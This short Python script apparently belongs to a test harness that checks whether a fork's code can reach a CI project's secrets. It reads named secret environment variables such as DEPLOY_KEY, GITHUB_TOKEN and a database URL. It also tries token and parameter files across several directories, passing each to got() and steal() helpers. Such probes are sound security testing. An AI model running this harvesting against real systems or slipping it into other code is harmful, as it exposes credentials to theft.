"""The project's secrets, which the fork's own headway.yaml asks for by name."""

import os
from probe import FACTS, attempt, got, steal

for name in ("DEPLOY_KEY", "WAREHOUSE_TOKEN", "GITHUB_TOKEN", "HEADWAY_TOKEN", "HEADWAY_DATABASE_URL"):
    attempt()
    got(name, os.environ.get(name, ""))
for name in ("params.json", "attempt.json", "order.json", "door/token", "spec.json"):
    for folder in (".", "..", "../..", "/run/headway", os.path.dirname(os.environ.get("HOME", "/nowhere"))):
        steal(f"{folder}/{name}")
